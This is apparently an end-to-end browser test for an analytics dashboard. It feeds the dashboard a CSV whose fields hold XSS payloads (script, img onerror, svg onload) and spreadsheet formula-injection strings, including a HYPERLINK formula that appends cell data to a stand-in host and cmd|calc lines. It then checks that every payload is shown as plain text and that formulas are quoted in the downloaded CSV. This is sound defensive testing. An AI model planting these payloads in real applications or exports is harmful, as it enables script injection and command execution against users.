"""An export whose every text is a script or markup payload, loaded, built and served by `lgs dashboard`,
driven in Chromium (issue 27): no payload runs or becomes an element on any page, every one reads as
the text it is, and the download quotes the formulas."""

from __future__ import annotations

import csv
import re

import pandas as pd
import pytest

from tests.conftest import built_database
from tests.dashboard.test_browser import BROWSER_ARGS, CHROMIUM, PASSWORD, open_page, serving

pytestmark = [pytest.mark.integration, pytest.mark.e2e]

XSS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
       "<svg onload=alert(1)>", '"><b>bold</b>')
FORMULAS = ('=HYPERLINK("http://x/?"&A2,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0")
COUNTRIES = (*XSS, *FORMULAS, "United Kingdom")  # one customer each
FILE_NAME = "<img src=x onerror=alert(2)>.csv"  # the provenance line names the file
TYPED = "<img src=x onerror=alert(3)>"  # typed into the customer lookup
# What a payload would become if it ran: no such element may exist in the page or its shadow roots.
INJECTED = ("img[src=x]", "[onerror]", "svg[onload]", "iframe")


def export_rows() -> list[list[str]]:
    """Each customer's invoices through 2011; descriptions are payloads, and every invoice has a line
    whose stock code is one (not a product code: cleaned out, but loaded)."""
    payloads = XSS + FORMULAS
    rows, invoice = [], 540000
    for i, country in enumerate(COUNTRIES):
        for n in range(1 + i % 4):
            invoice += 1
            day = f"2011-{1 + (i + 3 * n) % 12:02d}-{1 + (i * 7 + n) % 27:02d} 10:{i:02d}"
            text = payloads[(i + n) % len(payloads)]
            rows.append([str(invoice), "85123A", text, str(2 + i), day, "2.55", str(12346 + i), country])
            rows.append([str(invoice), text, text, "1", day, "1.00", str(12346 + i), country])
    return rows


@pytest.fixture(scope="module")
def hostile_server(pg_server, tmp_path_factory):
    """`lgs dashboard` serving a build of :func:`export_rows`, in a database of its own."""

    from lgs_analytics.config import EXPORT_COLUMNS

    path = tmp_path_factory.mktemp("hostile") / FILE_NAME
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(EXPORT_COLUMNS)
        writer.writerows(export_rows())
    with built_database(pg_server, path, "xss") as url, serving(url, tmp_path_factory) as served:
        yield served


@pytest.fixture(scope="module")
def chromium():
    import os

    if not os.path.exists(CHROMIUM):
        pytest.skip("Debian's chromium is not installed (.ci/run installs it with apt-get)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=BROWSER_ARGS)
        yield browser
        browser.close()


def untouched(tab, dialogs: list, where: str) -> None:
    """No alert() ran, and no payload became an element (Playwright's CSS pierces shadow roots)."""
    assert dialogs == [], f"{where}: a payload ran: {dialogs}"
    for selector in INJECTED:
        assert tab.locator(selector).count() == 0, f"{where}: {selector} injected"
    assert tab.locator("b", has_text="bold").count() == 0, f"{where}: <b> injected"
    assert tab.locator("script", has_text="alert(1)").count() == 0, f"{where}: <script> injected"


def test_export_text_is_text_on_every_page(hostile_server, chromium, tmp_path):
    context = chromium.new_context(viewport={"width": 1400, "height": 900}, accept_downloads=True)
    tab = context.new_page()
    dialogs: list[str] = []
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    tab.goto(hostile_server["base"] + "/login")
    tab.fill("input[name=password]", PASSWORD)
    tab.click("button[type=submit], input[type=submit]")
    tab.wait_for_selector("text=NET SALES, WHOLE PERIOD", timeout=60_000)
    tab.locator(".lgs-provenance").get_by_text(FILE_NAME).wait_for(timeout=10_000)  # the file, as spelled
    tab.wait_for_timeout(1500)  # the other pages are built after the first paint (app.Session)
    untouched(tab, dialogs, "overview")
    tab.screenshot(path=str(tmp_path / "overview.png"))

    open_page(tab, "Customers")
    countries = tab.locator(".tabulator-cell:visible[tabulator-field=country]")
    countries.first.wait_for(timeout=10_000)
    assert sorted(countries.all_inner_texts()) == sorted(COUNTRIES)  # each as spelled, in a table cell
    untouched(tab, dialogs, "customers")

    tab.locator(".lgs-countries input[type=search]").click()  # open the country filter's dropdown
    options = tab.locator(".lgs-countries .choices__list--dropdown .choices__item--choice")
    options.first.wait_for(timeout=10_000)
    assert sorted(options.all_inner_texts()) == sorted(COUNTRIES)
    assert tab.get_by_text(XSS[1], exact=True).count() >= 2  # the option and the table cell
    tab.screenshot(path=str(tmp_path / "country-filter.png"))
    untouched(tab, dialogs, "country filter open")
    options.filter(has_text=re.compile(f"^{re.escape(XSS[4])}$")).click()  # choose '"><b>bold</b>'
    tab.keyboard.press("Escape")
    tab.get_by_text("1 customers", exact=False).wait_for(timeout=10_000)
    assert countries.all_inner_texts() == [XSS[4]]
    assert tab.locator(".lgs-countries .choices__list--multiple .choices__item").all_inner_texts()[0] \
        .startswith(XSS[4])  # the chosen item reads as text too
    untouched(tab, dialogs, "country chosen")

    tab.get_by_text("Clear filters").click()
    tab.get_by_text(f"{len(COUNTRIES)} customers", exact=False).wait_for(timeout=10_000)
    with tab.expect_download() as download:
        tab.get_by_text("Download these customers (CSV)").click()
    rows = pd.read_csv(download.value.path(), keep_default_na=False)
    assert sorted(rows["country"]) == sorted([*XSS, *("'" + f for f in FORMULAS), "United Kingdom"])

    customer = tab.locator(".tabulator-row:visible", has_text=XSS[1]) \
        .locator(".tabulator-cell[tabulator-field=customer]")
    customer.click()
    profile = tab.locator(".tile:visible", has_text="Last order")
    profile.wait_for(timeout=10_000)
    assert XSS[1] in profile.inner_text()
    orders = tab.locator(".lgs-orders .tabulator-cell:visible[tabulator-field=country]")
    orders.first.wait_for(timeout=10_000)
    assert set(orders.all_inner_texts()) == {XSS[1]}
    tab.screenshot(path=str(tmp_path / "customer.png"))
    untouched(tab, dialogs, "customer")

    lookup = tab.locator("input[placeholder^='e.g.']:visible")
    lookup.fill(TYPED)
    lookup.press("Enter")
    tab.get_by_text(f"No customer {TYPED} in build", exact=False).wait_for(timeout=10_000)
    untouched(tab, dialogs, "customer lookup")

    for page in ("Segments", "Churn alerts", "Overview"):
        open_page(tab, page)
        tab.wait_for_timeout(500)
        untouched(tab, dialogs, page)
    context.close()
